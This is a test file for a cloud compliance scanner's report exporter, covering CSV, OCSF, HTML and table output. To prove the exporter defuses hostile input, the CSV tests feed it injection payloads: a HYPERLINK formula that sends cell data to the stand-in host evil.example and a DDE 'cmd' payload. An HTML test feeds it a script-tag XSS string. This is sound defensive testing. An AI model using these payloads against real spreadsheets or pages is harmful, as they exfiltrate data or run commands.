import { csvField, renderReport, type ScanFinding, type ScanResult } from '../../api/export';
import { parseCsv } from '../scan/csv-parse';

function finding(overrides: Partial<ScanFinding>): ScanFinding {
  return {
    controlId: 's3_bucket_default_encryption_enabled',
    title: 'S3 buckets encrypt objects by default',
    status: 'fail',
    severity: 'medium',
    accountId: '123456789012',
    region: 'global',
    resourceId: 'logs-bucket',
    resourceArn: 'arn:aws:s3:::logs-bucket',
    resourceType: 'aws_s3_bucket',
    reason: 'logs-bucket has no default encryption',
    evidence: ['logs-bucket has no default encryption', 'Bucket logs-bucket has no encryption rule'],
    trace: ['config.BucketEncryption is null'],
    requirements: [{ framework: 'cis-aws-7.0.0', requirement: '3.1.1' }],
    remediation: {
      console: ['Open the bucket', 'Enable default encryption'],
      cli: 'aws s3api put-bucket-encryption --bucket logs-bucket ...',
    },
    references: ['https://docs.aws.amazon.com/AmazonS3/latest/userguide/default-bucket-encryption.html'],
    fingerprint: '0'.repeat(64),
    ...overrides,
  };
}

function result(findings: ScanFinding[]): ScanResult {
  return {
    schemaVersion: '1.0',
    generator: { name: 'cloudward', version: '0.1.0' },
    summary: {
      accountId: '123456789012',
      regions: ['eu-west-1'],
      startedAt: '2026-11-22T10:00:00.000Z',
      finishedAt: '2026-11-22T10:01:00.000Z',
      counts: { pass: 1, fail: 2, not_applicable: 0, error: 0, suppressed: 1 },
      failedBySeverity: { critical: 1, high: 0, medium: 1, low: 0, info: 0 },
      frameworks: [
        { id: 'cis-aws-7.0.0', name: 'CIS AWS Foundations 7.0.0', passed: 1, evaluated: 3, score: 1 / 3 },
      ],
    },
    findings,
    assets: [],
    errors: [
      { service: 'kms', region: 'eu-west-1', code: 'AccessDeniedException', message: 'not authorized' },
    ],
  };
}

const sample = result([
  finding({
    reason: 'name has "quotes", commas\nand a newline',
    severity: 'critical',
    controlId: 'ec2_instance_imdsv2_required',
  }),
  finding({
    status: 'pass',
    reason: 'encrypted',
    resourceId: 'ok-bucket',
    resourceArn: 'arn:aws:s3:::ok-bucket',
  }),
  finding({
    resourceId: 'muted',
    resourceArn: 'arn:aws:s3:::muted',
    suppressed: { justification: 'accepted <risk>' },
  }),
  finding({ resourceId: '<script>alert(1)</script>' }),
]);

describe('CSV report', () => {
  it('quotes fields with commas, quotes and line breaks as RFC 4180 says, with CRLF line ends', () => {
    const csv = renderReport(sample, 'csv');
    const lines = csv.split('\r\n');
    expect(lines[0]).toMatch(/^control_id,title,status,severity/);
    expect(csv).toContain('"name has ""quotes"", commas\nand a newline"');
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it("carries each finding's filled remediation command in the last column", () => {
    const [header, row] = renderReport(sample, 'csv').split('\r\n');
    expect(header.split(',').at(-1)).toBe('remediation_cli');
    expect(row.endsWith(',aws s3api put-bucket-encryption --bucket logs-bucket ...')).toBe(true);
  });

  it('reports suppressed findings as suppressed with their justification', () => {
    const row = renderReport(sample, 'csv')
      .split('\r\n')
      .find((line) => line.includes('arn:aws:s3:::muted'));
    expect(row).toContain(',suppressed,');
    expect(row).toContain('accepted <risk>');
  });

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"open")'],
    ['+', "+1+cmd|' /C calc'!A0"],
    ['-', '-2+3'],
    ['@', '@SUM(1,2)'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('defuses a cell starting with %s as OWASP advises: a leading quote', (_name, hostile) => {
    const csv = renderReport(
      result([finding({ resourceId: hostile, reason: `bucket ${hostile}`, evidence: [hostile] })]),
      'csv',
    );
    const [header, row] = parseCsv(csv);
    const cell = (column: string) => row[header.indexOf(column)];
    expect(cell('resource_id')).toBe(`'${hostile}`);
    expect(cell('evidence')).toBe(`'${hostile}`);
    // Only the start of a cell is dangerous; text inside is left as it is.
    expect(cell('reason')).toBe(`bucket ${hostile}`);
    expect(cell('control_id')).toBe('s3_bucket_default_encryption_enabled');
  });

  it('writes numbers as numbers, negative ones included, and defuses text that only looks like one', () => {
    expect(csvField(-42)).toBe('-42');
    expect(csvField(0.5)).toBe('0.5');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField('-42')).toBe("'-42");
    expect(csvField('sg-0a1b2c3d')).toBe('sg-0a1b2c3d');
  });
});

describe('OCSF report', () => {
  const events = JSON.parse(renderReport(sample, 'ocsf')) as Record<string, any>[];

  it('emits one Compliance Finding event per finding', () => {
    expect(events).toHaveLength(4);
    for (const event of events) {
      expect(event.class_uid).toBe(2003);
      expect(event.category_uid).toBe(2);
      expect(event.type_uid).toBe(200301);
      expect(event.metadata.version).toMatch(/^1\./);
      expect(event.cloud.provider).toBe('AWS');
    }
  });

  it('maps severity and compliance status to OCSF ids', () => {
    expect(events[0].severity_id).toBe(5);
    expect(events[0].compliance.status_id).toBe(3);
    expect(events[1].compliance.status_id).toBe(1);
    expect(events[2].status_id).toBe(3);
    expect(events[0].compliance.requirements).toEqual(['cis-aws-7.0.0:3.1.1']);
  });
});

describe('HTML report', () => {
  it('escapes every value so resource names cannot inject markup', () => {
    const html = renderReport(sample, 'html');
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('shows evidence sentences, folds the condition trace away and links the references', () => {
    const html = renderReport(sample, 'html');
    expect(html).toContain('<li>Bucket logs-bucket has no encryption rule</li>');
    expect(html).toMatch(
      /<details><summary>How this was decided<\/summary><pre>config\.BucketEncryption is null<\/pre><\/details>/,
    );
    expect(html).toContain(
      '<a href="https://docs.aws.amazon.com/AmazonS3/latest/userguide/default-bucket-encryption.html" rel="noreferrer">',
    );
  });

  it('is self-contained and lists scores, failures and partial-read errors', () => {
    const html = renderReport(sample, 'html');
    expect(html).not.toMatch(/<script|<link|src=/);
    expect(html).toContain('33%');
    expect(html).toContain('Failing findings (2)');
    expect(html).toContain('AccessDeniedException');
  });
});

describe('table report', () => {
  it('summarises scores and lists unsuppressed failures worst first', () => {
    const table = renderReport(sample, 'table');
    const lines = table.split('\n');
    expect(table).toContain('CIS AWS Foundations 7.0.0');
    const failureLines = lines.filter((line) => /^(critical|medium)\s/.test(line));
    expect(failureLines[0]).toMatch(/^critical/);
    expect(table).not.toContain('muted');
    expect(table).toContain('kms eu-west-1: AccessDeniedException');
  });
});
